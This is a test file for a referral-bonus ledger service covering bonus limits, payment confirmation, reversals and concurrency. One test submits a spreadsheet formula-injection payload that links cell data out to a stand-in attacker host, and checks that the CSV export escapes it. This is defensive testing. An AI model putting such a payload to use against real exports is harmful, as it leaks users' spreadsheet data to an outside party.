import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'bun:test'
import { DOLLARS_MAX } from '@goodword/contract/limits'
import type { Statement } from '@goodword/contract/statement'
import { VALID } from '@goodword/contract/test/boundaries'
import { eq, sql } from 'drizzle-orm'
import postgres from 'postgres'
import { makeApplication, makeCompany, makeJob, makeReferral, makeReward } from '../../../test/factories.ts'
import { type Person, testApp } from '../../../test/harness.ts'
import { letGuaranteePass } from '../../../test/let-guarantee-pass.ts'
import { recordFigures } from '../../../test/record-figures.ts'
import { applications } from '../../db/schema/applications.ts'
import { companies } from '../../db/schema/companies.ts'
import { jobs } from '../../db/schema/jobs.ts'
import { rewardFacts } from '../../db/schema/reward-facts.ts'
import { rewards } from '../../db/schema/rewards.ts'
import { transfers } from '../../db/schema/transfers.ts'
import { checkLedger } from './check-ledger.ts'
import type { MoneyFact } from './post-fact.ts'
import { sweepDue } from './sweep-due.ts'

/** What nobody should send: a sentence, nothing posted, nothing lost. */

let manager: Person
let stranger: Person
let operator: Person
let recommender: Person
let company: Parameters<typeof makeJob>[1]
let owner: postgres.Sql

afterAll(() => owner.end())
const app = testApp({ OPERATOR_EMAILS: 'olga@example.org, otto@example.org' })
beforeAll(async () => {
  operator = await app.signIn(null, { email: 'olga@example.org' })
  stranger = await app.signIn('hiring_manager')
  await makeCompany(app.db, { ownerId: stranger.id })
  owner = postgres(app.ownerUrl, { max: 1, onnotice: () => {} })
})
beforeEach(async () => {
  manager = await app.signIn('hiring_manager')
  recommender = await app.signIn('referrer')
  company = await makeCompany(app.db, { ownerId: manager.id, name: 'Crumb' })
})

async function hire(facts: readonly MoneyFact[] = [], referralBonus = 3000) {
  const job = await makeJob(app.db, company, { title: 'Baker', referralBonus })
  const reward = await makeReward(app.db, await makeReferral(app.db, { job, referrerId: recommender.id }), facts)
  // As the status says, too.
  const ended = { status: 'rejected' } as const
  if (facts.includes('reversed'))
    await app.db.update(applications).set(ended).where(eq(applications.id, reward.applicationId))
  return reward
}
const post = async (who: Person, id: string, step: string, body: object) => {
  const { status, body: reply } = await who.browser.post(`/api/statement/rows/${id}/${step}`, body)
  return [status, reply.detail] as const
}
/** All of the ledger, to see that nothing was added or lost. */
const all = () =>
  Promise.all(
    ['accounts', 'entries', 'transfers', 'rewards', 'reward_facts'].map(async (table) => [
      ...(await owner.unsafe(`select * from ${table} order by 1, 2`)),
    ]),
  )
/** Nothing of this changes the ledger. */
async function unchanged<T>(work: () => Promise<T>): Promise<T> {
  const before = await all()
  const result = await work()
  expect(await all()).toEqual(before)
  expect(await checkLedger(owner)).toEqual([])
  return result
}
const REFERENCE = { reference: 'SEPA 7' }

describe('a bonus', () => {
  const offer = async (referralBonus: unknown) => {
    const { status, body } = await manager.browser.post('/api/jobs', {
      ...VALID.job,
      hasReferralBonus: true,
      referralBonus,
    })
    return [status, body.errors?.referralBonus ?? body.detail]
  }
  test.each([
    [0, 'Referral bonus must be at least $1'],
    [-1, 'Referral bonus must be at least $1'],
    [0.005, 'Referral bonus must be at least $1'],
    [1.005, 'Please enter whole dollars'],
    [2.5, 'Please enter whole dollars'],
    [DOLLARS_MAX + 1, 'Please enter a smaller amount'],
    [1e21, 'Please enter a smaller amount'],
    ['3000', 'Referral bonus must be at least $1'],
    [null, 'Referral bonus amount is required when offering a bonus'],
  ])('a bonus of %p is refused in a sentence, and nothing is offered', async (amount, sentence) => {
    expect(await unchanged(() => offer(amount))).toEqual([400, sentence])
    expect(await app.db.$count(jobs, eq(jobs.companyId, company.id))).toBe(0)
  })

  test.each([
    [1, 100, 25],
    [2, 200, 50],
    [3, 300, 75],
    [DOLLARS_MAX - 1, (DOLLARS_MAX - 1) * 100, (DOLLARS_MAX - 1) * 25],
    [DOLLARS_MAX, DOLLARS_MAX * 100, DOLLARS_MAX * 25],
  ])('a bonus of %i dollars is owed to the cent', async (amount, gross, share) => {
    expect((await offer(amount))[0]).toBe(201)
    const [job] = await app.db.select().from(jobs).where(eq(jobs.companyId, company.id))
    if (!job) throw new Error('There is no job.')
    const referral = await makeReferral(app.db, { job, referrerId: recommender.id })
    const { id } = await makeApplication(app.db, { referral })
    await manager.browser.patch(`/api/applications/${id}/status`, { status: 'hired' })
    const { body } = await recommender.browser.get('/api/statement')
    expect((body as Statement).held).toBe(gross - share)
    expect((body as Statement).rows.map((row) => [row.gross, row.share, row.amount])).toEqual([
      [gross, share, gross - share],
    ])
    expect(await checkLedger(owner)).toEqual([])
  })

  test.each(['0', '-1', '0.5', "'0.005'", '1.5'])('a transfer of %s cents is refused', async (amount) => {
    const { id, companyId, recommenderId } = await hire()
    const refused = await unchanged(() =>
      owner
        .unsafe(
          `insert into transfers (reward_id, kind, from_account, to_account, amount_cents)
             values ('${id}', 'due', 'company-held/${companyId}', 'recommender-held/${recommenderId}', ${amount}::text::bigint)`,
        )
        .then(
          () => 'taken',
          ({ message }: Error) => message,
        ),
    )
    expect(refused).toMatch(/transfers_amount|invalid input syntax/)
  })
})

describe('confirming a payment', () => {
  test('a stranger cannot confirm a payment', async () => {
    const { id } = await hire(['due'])
    expect(await unchanged(() => post(stranger, id, 'paid', REFERENCE))).toEqual([404, 'There is no such row.'])
  })

  test('a second confirmation is refused, even a concurrent one', async () => {
    const { id } = await hire(['due'])
    const answers = await Promise.all([1, 2].map(() => post(manager, id, 'paid', REFERENCE)))
    expect(answers.map(([status]) => status).sort()).toEqual([200, 409])
    const again = await unchanged(() => post(manager, id, 'paid', REFERENCE))
    expect(again).toEqual([409, 'It was said before that this is paid.'])
    expect(await app.db.$count(transfers, sql`reward_id = ${id} and kind = 'paid'`)).toBe(1)
  })

  test('a payment before it is due is refused', async () => {
    const { id } = await hire()
    const sentence = 'This is not due yet: nothing is to be paid before.'
    expect(await unchanged(() => post(manager, id, 'paid', REFERENCE))).toEqual([409, sentence])
  })

  test('a formula as payment reference is stored verbatim and is text in the CSV', async () => {
    const { id } = await hire(['due'])
    const reference = '=HYPERLINK("https://evil.example?"&A1,"Invoice")'
    expect((await post(manager, id, 'paid', { reference }))[0]).toBe(200)
    const [fact] = await app.db.select().from(rewardFacts).where(sql`reward_id = ${id} and kind = 'paid'`)
    expect(fact?.reference).toBe(reference)
    const { body } = await manager.browser.get('/api/statement?format=csv')
    expect(String(body)).toContain('"\'=HYPERLINK(""https://evil.example?""&A1,""Invoice"")"')
  })
})

describe('reversing a transfer', () => {
  test('a reversal of a reversal is refused', async () => {
    const { id } = await hire(['reversed'])
    const said = { reason: 'It was a mistake.' }
    const answers = await unchanged(async () => [
      await post(manager, id, 'dispute', said),
      await post(operator, id, 'resolve', { outcome: 'reversed', ...said }),
    ])
    expect(answers).toEqual([
      [409, 'This was reversed: there is nothing to dispute any more.'],
      [409, 'This was reversed already.'],
    ])
  })

  test.each([
    [
      'a reversal',
      `(select id from transfers where reward_id = $1 and kind = 'reversed' order by id limit 1)`,
      '225000',
    ],
    ['what is due', `(select id from transfers where reward_id = $2 and kind = 'due' order by id limit 1)`, '300000'],
    [
      "another reward's promise",
      `(select id from transfers where reward_id = $2 and kind = 'promised' order by id limit 1)`,
      '225000',
    ],
  ])('a reversal that names %s is refused, whoever writes it', async (_, named, amount) => {
    const [reversed, due] = [await hire(['reversed']), await hire(['due'])]
    const refused = await unchanged(() =>
      owner
        .unsafe(
          `insert into transfers (reward_id, kind, from_account, to_account, amount_cents, reverses)
             values ('${reversed.id}', 'reversed', 'company-held/${company.id}', 'recommender-held/${recommender.id}', ${amount},
               ${named.replace('$1', `'${reversed.id}'`).replace('$2', `'${due.id}'`)})`,
        )
        .then(
          () => 'taken',
          ({ message }: Error) => message,
        ),
    )
    expect(refused).toBe('a reversal takes back what was promised, and all of it')
  })

  test('a partial reversal is refused', async () => {
    const { id } = await hire()
    const refused = await unchanged(() =>
      owner
        .unsafe(
          `insert into transfers (reward_id, kind, from_account, to_account, amount_cents, reverses)
             select reward_id, 'reversed', to_account, from_account, amount_cents - 1, id
               from transfers where reward_id = '${id}' and kind = 'promised'`,
        )
        .then(
          () => 'taken',
          ({ message }: Error) => message,
        ),
    )
    expect(refused).toBe('a reversal takes back what was promised, and all of it')
  })
})

test('of two operators deciding at once one wins, and the other is refused', async () => {
  const otto = await app.signIn(null, { email: 'otto@example.org' })
  const { id } = await hire(['due'])
  await post(recommender, id, 'dispute', { reason: 'I was promised more.' })
  const answers = await Promise.all([
    post(operator, id, 'resolve', { outcome: 'stands', reason: 'It was not.' }),
    post(otto, id, 'resolve', { outcome: 'reversed', reason: 'It was.' }),
  ])
  const [refused, ...more] = answers.filter(([status]) => status !== 200)
  expect([refused?.[0], more]).toEqual([409, []])
  expect(['Nobody disputes this, so there is nothing to decide.', 'This was reversed already.']).toContain(
    String(refused?.[1]),
  )
  const decisions = await app.db.$count(rewardFacts, sql`reward_id = ${id} and kind = 'resolved'`)
  recordFigures('operators-at-once', {
    'decisions of two at once': decisions,
    'told that it was decided': more.length + 1,
  })
  expect(decisions).toBe(1)
  expect(await checkLedger(owner)).toEqual([])
})

test('erasing a company in debt leaves its ledger entries', async () => {
  const [held, due] = [await hire(), await hire(['due'])]
  const before = await all()
  await app.db.delete(companies).where(eq(companies.id, company.id))
  expect(await all()).toEqual(before)
  expect(await checkLedger(owner)).toEqual([])
  // Nobody is its manager any more, who could say that it paid.
  expect(await unchanged(() => post(manager, due.id, 'paid', REFERENCE))).toEqual([404, 'There is no such row.'])
  expect((await manager.browser.get('/api/statement')).body).toMatchObject({ held: 0, due: 0, rows: [] })
  await letGuaranteePass(app.db, held.id)
  expect(await sweepDue(app.deps)).toBe(1)
  const { body } = await recommender.browser.get('/api/statement')
  expect(body).toMatchObject({ held: 0, due: 450_000, rows: [{ company: 'Crumb' }, { company: 'Crumb' }] })
  // An operator can still end what nobody will pay.
  expect((await post(operator, due.id, 'dispute', { reason: 'The company is gone.' }))[0]).toBe(200)
  expect((await post(operator, due.id, 'resolve', { outcome: 'reversed', reason: 'It is.' }))[0]).toBe(200)
  expect((await app.db.select().from(rewards).where(eq(rewards.id, due.id)))[0]?.state).toBe('reversed')
  expect(await checkLedger(owner)).toEqual([])
})
